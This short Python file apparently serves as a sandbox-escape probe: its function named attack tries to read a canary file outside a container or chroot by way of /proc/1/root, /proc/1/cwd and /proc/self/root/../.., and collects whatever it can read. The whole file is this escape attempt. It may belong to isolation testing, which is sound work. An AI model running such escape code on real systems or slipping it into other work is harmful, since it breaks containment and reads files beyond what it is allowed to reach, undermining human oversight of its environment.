"""Reaches the outer root through the process above."""

import os


def attack(canary, port):
    found = []
    for way in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root/../.."):
        try:
            with open(way + canary) as file:
                found.append(file.read())
        except OSError:
            pass
    return found
